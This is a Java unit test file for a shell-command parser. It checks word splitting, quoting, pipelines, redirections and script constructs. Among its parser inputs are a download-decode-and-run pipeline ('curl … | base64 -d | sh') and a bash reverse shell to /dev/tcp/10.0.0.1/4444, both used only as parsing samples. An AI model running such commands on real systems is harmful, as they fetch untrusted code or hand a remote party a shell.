package org.foothold.formats.unix;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.foothold.formats.linux.LineDamage;
import org.foothold.formats.unix.ShellWords.Command;
import org.foothold.formats.unix.ShellWords.Kind;
import org.foothold.formats.unix.ShellWords.Named;
import org.foothold.formats.unix.ShellWords.Word;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShellWordsTest {
    private static final String SIGNS = "ab \\'\"#=~-./,:%@^+!]}0\t\n\u00e9";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a 'b c' d\\ e|a/b c/d e",
                "a\"b\\\"c\\d\"'e'|ab\"c\\de",
                "$'x\\x41\\tb\\'\\101\\u00e9'|xA\tb'A\u00e9",
                "a '' \"\"|a//",
                "a # b|a",
                "a b#c|a/b#c",
                "a {} \\;|a/{}/;"
            })
    void splitsAndUnquotes(String text, String words) {
        assertThat(texts(only(text))).isEqualTo(words);
        assertThat(only(text).words()).allMatch(Word::literal);
    }

    @Test
    void keepsPipelinesAndWhatRunsBehind() {
        List<Command> commands =
                ShellWords.read("curl -s x | base64 -d |sh && a & b;c||d").commands();

        assertThat(commands)
                .extracting(ShellWordsTest::texts)
                .containsExactly("curl/-s/x", "base64/-d", "sh", "a", "b", "c", "d");
        assertThat(commands).extracting(Command::pipeline).containsExactly(0, 0, 0, 1, 2, 3, 4);
        assertThat(commands.stream().filter(Command::background))
                .extracting(ShellWordsTest::texts)
                .containsExactly("a");
    }

    @Test
    void keepsRedirectionsApart() {
        Command command = only("A=1 B='2 3' bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 2>/dev/null <<<x &>>y");

        assertThat(texts(command)).isEqualTo("bash/-i");
        assertThat(command.assignments()).extracting(Word::text).containsExactly("A=1", "B=2 3");
        assertThat(command.redirections())
                .extracting(r -> r.descriptor() + r.operator() + r.target().text())
                .containsExactly(">&/dev/tcp/10.0.0.1/4444", "0>&1", "2>/dev/null", "<<<x", "&>>y");
    }

    @Test
    void givesTheCommandsInsideOfWords() {
        Command command = only("echo \"a $(b \"$(c d)\" `e \\`f\\``)\" ${x:-$(g)} <(h i) $((1+2)) $V *.c ~ {a,b}");

        assertThat(command.words()).hasSize(9);
        assertThat(command.words().stream().filter(Word::literal))
                .extracting(Word::text)
                .containsExactly("echo");
        assertThat(names(command)).containsExactly("b", "c", "e", "f", "g", "h");
    }

    @Test
    void readsScripts() {
        ShellWords script = ShellWords.read("""
            #!/bin/sh
            f() { one "$@"; }
            function g { two; }
            if [ -x /a ]; then three; else four; fi
            for i in 1 2; do five $i; done
            for ((i=0; i<3; i++)); do six; done
            case $1 in
              start|begin) seven;;
              (stop) eight ;;
              *) ;;
            esac
            cat <<'EOF' | nine
            not a command $(x)
            EOF
            [[ -n $a && $b < c ]] && ten
            alias ls='ls -l' x=y
            trap 'eleven; x' EXIT INT
            ( twelve ) &
            a=(1 2) thirteen \\
              more
            """);

        assertThat(String.join(
                        " ",
                        script.commands().stream()
                                .map(command -> command.words().getFirst().text())
                                .toList()))
                .isEqualTo("one two [ three four for five for six case seven eight cat nine [[ ten alias trap twelve"
                        + " thirteen");
        assertThat(script.commands().getLast().line()).isEqualTo(19);
        assertThat(script.named())
                .containsExactly(
                        new Named(2, Kind.FUNCTION, "f", ""),
                        new Named(3, Kind.FUNCTION, "g", ""),
                        new Named(16, Kind.ALIAS, "ls", "ls -l"),
                        new Named(16, Kind.ALIAS, "x", "y"),
                        new Named(17, Kind.TRAP, "EXIT INT", "eleven; x"));
        assertThat(script.damages()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {"a 'b|single quote", "a \"b|double quote", "a $(b|bracket", "a ${b|brace", "a >|redirection"})
    void saysWhatIsNotClosed(String text, String what) {
        ShellWords read = ShellWords.read(text);

        assertThat(read.commands()).hasSize(1);
        assertThat(read.damages()).extracting(LineDamage::what).containsExactly(what);
        assertThat(ShellWords.read("cat <<X\nb").damages())
                .extracting(LineDamage::what)
                .containsExactly("here-document");
    }

    @Test
    void isNotSentTooDeep() {
        for (String piece : List.of("$(", "\"$(", "`", "${", "(", "<(", "$((", "case x in ", "f() ", "[[ ", "a=(")) {
            assertThat(ShellWords.read(piece.repeat(20_000)).commands()).hasSizeLessThan(200_001);
        }
    }

    @Test
    void quotesWhatItSplits() {
        Random random = new Random(3);
        for (int round = 0; round < 5_000; round++) {
            List<String> texts = new ArrayList<>();
            StringBuilder line = new StringBuilder("x");
            for (int i = random.nextInt(5); i >= 0; i--) {
                texts.add(random(random));
                line.append(' ').append(ShellWords.quote(texts.getLast()));
            }
            assertThat(only(line.toString()).words().stream().skip(1).map(Word::text))
                    .isEqualTo(texts);
        }
    }

    @Test
    void splitsAsBashDoes() throws Exception {
        Random random = new Random(7);
        int compared = 0;
        for (int round = 0; round < 400; round++) {
            String text = "printf '%s\\0' x " + random(random).replace("\n", "")
                    + random(random).replace("\n", "");
            ShellWords read = ShellWords.read(text);
            Command first = read.commands().getFirst();
            if (!read.damages().isEmpty() || !first.words().stream().allMatch(Word::literal) || text.endsWith("\\")) {
                continue;
            }
            Process bash = new ProcessBuilder("bash", "--norc", "-c", text)
                    .redirectErrorStream(true)
                    .start();
            String said = new String(bash.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            String ours = String.join(
                            "\0", first.words().stream().skip(2).map(Word::text).toList()) + "\0";
            assertThat(ours).as(text).isEqualTo(said);
            compared++;
        }
        assertThat(compared).isGreaterThan(80);
    }

    private static String random(Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(9); i > 0; i--) {
            text.append(SIGNS.charAt(random.nextInt(SIGNS.length())));
        }
        return text.toString();
    }

    private static List<String> names(Command command) {
        List<String> names = new ArrayList<>();
        for (Word word : command.words()) {
            for (Command inner : word.inner()) {
                names.add(inner.words().getFirst().text());
                names.addAll(names(inner));
            }
        }
        return names;
    }

    private static Command only(String text) {
        List<Command> commands = ShellWords.read(text).commands();
        assertThat(commands).hasSize(1);
        return commands.getFirst();
    }

    private static String texts(Command command) {
        return String.join("/", command.words().stream().map(Word::text).toList());
    }
}
